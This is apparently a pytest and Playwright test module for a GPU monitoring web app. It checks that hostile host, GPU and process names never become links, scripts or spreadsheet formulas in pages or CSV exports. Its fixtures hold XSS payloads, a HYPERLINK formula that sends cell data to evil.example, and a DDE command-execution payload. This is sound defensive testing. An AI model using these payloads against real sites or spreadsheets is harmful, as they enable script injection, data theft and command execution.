"""Names, commands and addresses that attack their reader: in a browser, and in the files that it saves."""

from __future__ import annotations

import csv
import re
import time
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from conftest import Server
from playwright.sync_api import BrowserContext, Page, expect
from stage import column
from test_browser_pages import PAGES, drawn

from gpumon_core.attribution.records import ProcessIdentity, Program
from gpumon_core.store import database, rollups
from gpumon_core.store.writer import Writer
from gpumon_core.telemetry.records import GpuInfo, GpuReading, HostInfo, ProcessReading, Snapshot

MARKUP = (
    "https://evil.example/a_b",
    "www.evil.example",
    "eve@evil.example",
    "[a](https://evil.example)",
    "![a](https://evil.example/a.png)",
    "<img src=x onerror=window.owned=1>",
    '<a href="https://evil.example">a</a>',
    "<script>window.owned=1</script>",
    ":red[a] :smile: :material/delete:",
    "$x^2$ `a` **a** a -> b",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"a")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "a;=1+1",
)
GPUS = ("GPU-0", "GPU-1")
# What each page reads from its address.
QUERIES = (
    *("by", "measure", "process", "gpu", "range", "from", "to", "metrics", "lanes", "groups", "user", "container"),
    *("workload", "model", "type", "state", "lifetime", "columns", "q", "idle", "memory", "nothing"),
)


def identity(pid: int, text: str) -> ProcessIdentity:
    """A process that has one text for everything that it can choose."""
    program = Program(**{field.name: text for field in fields(Program) if field.name not in ("category",)})
    return ProcessIdentity(pid, f"b:{pid}", time.time() - 60, text, text, program)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server on a history of hosts, GPUs and processes that have such names."""
    folder = tmp_path_factory.mktemp("hostile") / "history"
    engine = database.open_for_writing(f"sqlite:///{folder / 'gpumon.db'}")
    people = {pid: identity(pid, text) for pid, text in enumerate((*MARKUP, *FORMULAS), 100)}
    now = time.time()
    # What runs nowhere else is that of the second host; its GPUs' names have the host's before them.
    for host, markup in ((MARKUP[0], MARKUP[5]), (MARKUP[3], MARKUP[2])):
        gpus = tuple(GpuInfo(at, f"{uuid}-{markup[:3]}", markup, 81559, 700.0) for at, uuid in enumerate(GPUS))
        writer = Writer(engine, host, "nvml", 3600)
        for at in (now - 12, now - 8, now - 4):
            readings = tuple(
                GpuReading(gpu.uuid, {"utilization": 50.0, "memory": 4000, "power": 200.0}) for gpu in gpus
            )
            running = tuple(ProcessReading(gpus[0].uuid, pid, "C", 1000, 10) for pid in people)
            writer.write(Snapshot(at, HostInfo(host, markup, "13.0", "13.580"), gpus, readings, running), people)
        writer.settle()
        rollups.roll_up(engine, host)
    engine.dispose()
    server = Server(folder, None, GPUMON_RECORD="false", GPUMON_SOURCE="nvml", GPUMON_INTERVAL="3600")
    yield server.ready()
    server.stop()


def outside(page: Page, server: Server) -> list[str]:
    """What on a page links to, or was loaded from, elsewhere; and texts that have become pictures or markup."""
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll('a[href], area[href], form[action], img, iframe, object, embed')]
            .map(part => part.href?.baseVal ?? part.href ?? part.src ?? part.action ?? part.outerHTML)"""
    )
    found = [address for address in found if not address.startswith((server.url, "data:", "blob:"))]
    boxes = page.locator(
        "[data-testid=stAlertContainer], [data-testid=stHeading], [data-testid=stCaptionContainer]"
    )
    found += boxes.locator("a, img, em, .katex, script, [role=img]:not([data-testid])").evaluate_all(
        "parts => parts.map(part => part.outerHTML)"
    )
    return found


def asked_elsewhere(context: BrowserContext, server: Server) -> list[str]:
    """What a browser requests from others than this server, as it does so."""
    asked: list[str] = []
    ours = urlsplit(server.url).netloc

    def note(address: str) -> None:
        if urlsplit(address).netloc not in (ours, ""):
            asked.append(address)

    context.on("request", lambda request: note(request.url))
    return asked


def test_no_name_on_any_page_becomes_a_link_a_picture_or_a_script(page: Page, hostile: Server) -> None:
    asked = asked_elsewhere(page.context, hostile)
    for title, address in PAGES.items():
        page.goto(f"{hostile.url}{address}?range=1h")
        drawn(page)
        assert outside(page, hostile) == [], title
    for process_id, text in enumerate(MARKUP, 1):
        page.goto(f"{hostile.url}/processes?process={process_id}")
        expect(page.get_by_role("heading", level=3)).to_have_text(text)
        assert outside(page, hostile) == [], text
    assert page.evaluate("window.owned") is None
    assert asked == []


def test_what_an_address_asks_for_is_quoted_as_it_was_typed(page: Page, hostile: Server) -> None:
    asked = asked_elsewhere(page.context, hostile)
    for title in ("gpu", "history", "processes", "usage"):
        # A page names three values of each filter.
        for first in range(0, len(MARKUP), 3):
            texts = [text + "?" for text in MARKUP[first : first + 3]]
            asks = [(name, text) for name in QUERIES for text in texts]
            page.goto(f"{hostile.url}/{title}?{urlencode(asks)}")
            alert = page.get_by_text("This link asks for something that does not exist")
            for text in texts:
                expect(alert).to_contain_text(f"“{text}”")
            assert outside(page, hostile) == [], (title, texts)
    assert page.evaluate("window.owned") is None
    assert asked == []


def bare(text: str) -> str:
    """A text without the characters that may be removed or added on its way into a file."""
    return re.sub(r"[\s']", "", text)


def test_no_file_that_a_page_offers_has_a_formula(page: Page, hostile: Server, tmp_path: Path) -> None:
    saved = 0
    for address in ("/", "/processes?range=1h", "/usage?range=6h&by=Process"):
        page.goto(hostile.url + address)
        drawn(page)
        column(page, "GPU" if "usage" not in address else "Process")
        # What a table offers by itself.
        page.get_by_test_id("stDataFrame").first.hover()
        assert page.get_by_role("button", name="Download as CSV").count() == 0
        links, buttons = (page.get_by_role(role, name="CSV").all() for role in ("link", "button"))
        for button in (*links, *buttons):
            path = tmp_path / f"{saved}.csv"
            with page.expect_download() as caught:
                button.click()
            caught.value.save_as(path)
            saved += 1
            with path.open(newline="", encoding="utf-8") as file:
                rows = list(csv.DictReader(file))
            cells = [cell for row in rows for cell in row.values()]
            # As a spreadsheet reads it that parts cells at semicolons, as many do in Europe.
            cells += [part for cell in cells for part in cell.split(";")]
            assert [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝＋－＠")] == [], address
            if "usage" not in address:
                assert {bare(text) for text in FORMULAS} <= {bare(row["Name"]) for row in rows}
    assert saved >= 3


def test_what_is_copied_from_a_table_is_no_formula(page: Page, hostile: Server) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=hostile.url)
    page.goto(hostile.url)
    drawn(page)
    page.evaluate("navigator.clipboard.writeText('as it was')")
    page.get_by_test_id("stDataFrame").first.click(position={"x": 200, "y": 60})
    page.keyboard.press("Control+A")
    page.keyboard.press("Control+C")
    page.wait_for_function("navigator.clipboard.readText().then(text => text.length > 0)")
    assert page.evaluate("navigator.clipboard.readText()") == "as it was"
